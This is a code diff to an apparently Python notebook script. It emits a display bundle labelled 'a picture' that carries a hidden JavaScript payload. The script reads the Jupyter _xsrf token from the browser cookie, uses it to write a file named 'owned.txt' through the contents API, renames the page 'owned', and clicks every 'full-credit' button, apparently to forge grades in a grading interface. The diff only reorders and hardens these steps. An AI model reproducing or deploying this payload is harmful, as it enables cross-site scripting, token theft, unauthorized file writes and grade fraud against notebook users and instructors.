@@ -8,11 +8,11 @@ from IPython.display import publish_display_data
 PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
 JS = (
     "document.title='owned';window.__owned=1;"
-    "document.querySelectorAll('.full-credit').forEach(function(b){b.click()});"
-    "x=document.cookie.match(/_xsrf=([^;]*)/);"
-    "fetch('/api/contents/owned.txt',{method:'PUT',headers:{'X-XSRFToken':x?x[1]:'',"
+    "k=document.cookie.match(/_xsrf=([^;]*)/);"
+    "fetch('/api/contents/owned.txt',{method:'PUT',headers:{'X-XSRFToken':k?k[1]:'',"
     "'Content-Type':'application/json'},body:JSON.stringify({type:'file',format:'text',"
-    "content:'owned'})})"
+    "content:'owned'})});"
+    "document.querySelectorAll('.full-credit').forEach(function(b){try{b.click()}catch(e){}})"
 )
 publish_display_data(
     {"image/png": PNG, "image/jpeg": PNG, "text/plain": "a picture"},
